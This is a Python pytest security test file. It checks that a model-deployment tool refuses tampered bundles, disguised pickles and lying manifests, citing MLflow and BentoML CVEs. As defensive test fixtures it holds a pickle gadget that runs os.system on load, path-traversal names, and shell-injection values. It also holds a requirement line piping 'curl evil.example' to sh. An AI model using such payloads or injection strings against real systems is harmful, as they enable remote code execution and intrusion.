"""Bundles that lie, and bundles that change while they are looked at (MLflow CVE-2025-10279 and CVE-2026-4137, BentoML CVE-2026-33744)."""

from __future__ import annotations

import gzip
import json
import os
import pickle
import shutil
import zlib

import joblib
import pytest

from modeldeploy.backends.local.backend import LocalBackend
from modeldeploy.errors import ConfigurationError, IntegrityError, ModelDeployError
from modeldeploy.packaging.bundle import Bundle
from modeldeploy.packaging.digest import MANIFEST
from modeldeploy.packaging.loading import load
from modeldeploy.packaging.manifest import FileEntry
from modeldeploy.packaging.paths import package_path
from modeldeploy.packaging.store import Store
from modeldeploy.serving.boot import boot
from modeldeploy.values.serving import EndpointSpec, Revision


class Exploit:
    """Leaves a file behind when it is unpickled."""

    def __init__(self, path) -> None:
        self.path = path

    def __reduce__(self):
        return os.system, (f"touch {self.path}",)


@pytest.fixture
def mark(tmp_path):
    return tmp_path / "executed"


@pytest.fixture
def swap(monkeypatch):
    """Give ``swap(file, data)``: somebody else replaces the file the moment after the bundle was found to be whole."""

    def arrange(path, data: bytes) -> None:
        verify = Bundle.verify

        def verify_and_swap(bundle: Bundle) -> None:
            verify(bundle)
            path.chmod(0o600)
            path.write_bytes(data)

        monkeypatch.setattr(Bundle, "verify", verify_and_swap)

    return arrange


@pytest.mark.parametrize("again", [lambda path: load(Bundle.open(path)), boot], ids=["load", "boot"])
def test_a_model_swapped_between_check_and_load_is_not_loaded(line, tmp_path, mark, swap, again):
    copy = tmp_path / "copy"
    shutil.copytree(line.path, copy)
    artifact = next(name for name in line.manifest.files if name.startswith("artifacts/"))
    swap(copy / artifact, pickle.dumps(Exploit(mark)))
    with pytest.raises(IntegrityError, match="does not have its recorded digest"):
        again(copy)
    assert not mark.exists()


def test_a_manifest_swapped_after_the_check_changes_nothing_that_is_loaded(line, forge, tmp_path, mark, swap):
    """What was opened is what counts: trust, method and digests are those of the manifest that was read."""
    copy = tmp_path / "copy"
    shutil.copytree(line.path, copy)
    other = forge({"artifacts/model.pkl": pickle.dumps(Exploit(mark))}, pickled=True, options={"format": "pickle"})
    swap(copy / MANIFEST, (other / MANIFEST).read_bytes())
    model = load(Bundle.open(copy), trust={Bundle.open(other).digest})
    assert model.predict(model.golden.inputs)["prediction"].shape == (2,)
    assert not mark.exists()


def test_a_file_swapped_for_a_link_is_not_followed(line, tmp_path, monkeypatch):
    copy = tmp_path / "copy"
    shutil.copytree(line.path, copy)
    artifact = copy / next(name for name in line.manifest.files if name.startswith("artifacts/"))
    real = tmp_path / "elsewhere"
    shutil.copyfile(artifact, real)
    verify = Bundle.verify

    def verify_and_link(bundle: Bundle) -> None:
        verify(bundle)
        artifact.unlink()
        artifact.symlink_to(real)

    monkeypatch.setattr(Bundle, "verify", verify_and_link)
    with pytest.raises(IntegrityError, match="cannot be read"):
        load(Bundle.open(copy))


def packed(how: str, data: bytes) -> bytes:
    return {
        "plain": data,
        "gzip": gzip.compress(data),
        "zlib": zlib.compress(data),
        "zip": b"PK\x03\x04" + data,
        "text": b"# " + data,
    }[how]


@pytest.mark.parametrize("how", ["plain", "gzip", "zlib", "zip", "text"])
@pytest.mark.parametrize(
    "suffix",
    [".skops", ".onnx", ".ubj", ".json", ".txt", ".pkl", ".joblib", ".npz", ".safetensors", ".pt", ".h5", ".PKL", ""],
)
def test_a_pickle_in_any_dress_is_not_opened(how, suffix, mark, tmp_path):
    path = tmp_path / f"model{suffix}"
    path.write_bytes(packed(how, pickle.dumps(Exploit(mark))))
    with pytest.raises((IntegrityError, ConfigurationError)):
        package_path(path, store=Store(tmp_path / "store"), name="evil", version="1.0.0", example=[[1.0, 2.0]])
    assert not mark.exists()


@pytest.mark.parametrize("compress", [0, 3, ("gzip", 3), ("bz2", 3), ("lzma", 3)])
def test_joblib_in_any_compression_is_not_opened(compress, mark, tmp_path):
    """A scanner that does not look behind the compression finds nothing in these."""
    path = tmp_path / "model.joblib"
    joblib.dump(Exploit(mark), path, compress=compress)
    with pytest.raises(IntegrityError, match="runs code when it is loaded"):
        package_path(path, store=Store(tmp_path / "store"), name="evil", version="1.0.0", example=[[1.0, 2.0]])
    assert not mark.exists()


LIES = {
    "a path out": {"files": {"../../evil": FileEntry.of(b"x")}},
    "an absolute path": {"files": {"/etc/passwd": FileEntry.of(b"x")}},
    "a Windows path": {"files": {"..\\evil": FileEntry.of(b"x")}},
    "a drive": {"files": {"C:/evil": FileEntry.of(b"x")}},
    "a name with a null": {"files": {"a\x00b": FileEntry.of(b"x")}},
    "a digest that is none": {"files": {"golden.json": FileEntry("x" * 64, 1)}},
    "a size below nothing": {"files": {"golden.json": FileEntry("0" * 64, -1)}},
    "a name that is a path": {"name": "../../evil"},
    "a name for a shell": {"name": "$(touch evil)"},
    "a name of many lines": {"name": "line\nFROM evil"},
    "a version that is a path": {"version": "../1"},
    "a version for a shell": {"version": "1.0.0;touch evil"},
    "an option of pip": {"requirements": ("--index-url=http://evil.example/simple",)},
    "a file for pip": {"requirements": ("-r http://evil.example/r.txt",)},
    "two lines for pip": {"requirements": ("numpy==2.1.0\n--index-url http://evil.example",)},
    "a command behind a requirement": {"requirements": ("numpy && curl evil.example | sh",)},
    "a requirement that says nothing": {"requirements": ("numpy=>2",)},
    "a requirement in backquotes": {"requirements": ("`id`",)},
    "a requirement with a return": {"requirements": ("numpy\rRUN id",)},
}


@pytest.mark.parametrize("name", LIES)
def test_a_manifest_that_lies_is_refused_by_who_reads_it_first(name, forge, modeldeploy_home):
    forged = forge(**LIES[name])
    backend = LocalBackend(modeldeploy_home)
    with pytest.raises((IntegrityError, ConfigurationError)):
        load(Bundle.open(forged))
    with pytest.raises((IntegrityError, ConfigurationError)):
        package_path(forged, store=Store(modeldeploy_home / "store"))
    assert not (modeldeploy_home / "local").exists()
    backend.close()


@pytest.mark.parametrize("flavour", ["os", "modeldeploy.packaging.flavours.function", "../function", ""])
def test_a_flavour_is_one_of_ours_and_no_module(flavour, forge):
    with pytest.raises(ConfigurationError, match="is not known"):
        load(Bundle.open(forge(flavour=flavour)))


@pytest.mark.parametrize(
    "change",
    [
        lambda text: text.replace(b'"schema": 1', b'"schema": 2'),
        lambda text: text.replace(b'"pickled": false', b'"pickled": 0'),
        lambda text: text.replace(b'"method"', b'"methods"'),
        lambda text: text[:-20],
        lambda text: b"[" * 200_000,
        lambda text: b"\xff" + text,
        lambda text: b"null",
        lambda text: json.dumps({"schema": 1, "body": []}).encode(),
        lambda text: json.dumps({"schema": 1}).encode(),
        lambda text: json.dumps({"schema": 1, "body": {"files": {"a": 1}}}).encode(),
        lambda text: b" " * (17 << 20) + text,
    ],
)
def test_a_manifest_of_another_shape_is_refused_in_words_of_ours(change, forge):
    forged = forge(text=change)
    with pytest.raises(ModelDeployError):
        Bundle.open(forged)


@pytest.mark.parametrize(
    "revision",
    ["../../evil", "a/b", "$(touch evil)", "; touch evil", "-rf", "a b", "a\nb", "", "..", "\u202ea", "a" * 200],
)
def test_a_revision_s_id_reaches_no_file_name_and_no_command_line(revision, line, modeldeploy_home):
    backend = LocalBackend(modeldeploy_home)
    with pytest.raises(ConfigurationError, match="is not the name of"):
        backend.put_revision(EndpointSpec("line"), Revision(revision, line.model_version()))
    with pytest.raises(ConfigurationError, match="is not the name of"):
        backend.lines("line", revision, since=0, limit=1)
    assert not (modeldeploy_home / "local").exists()
    backend.close()
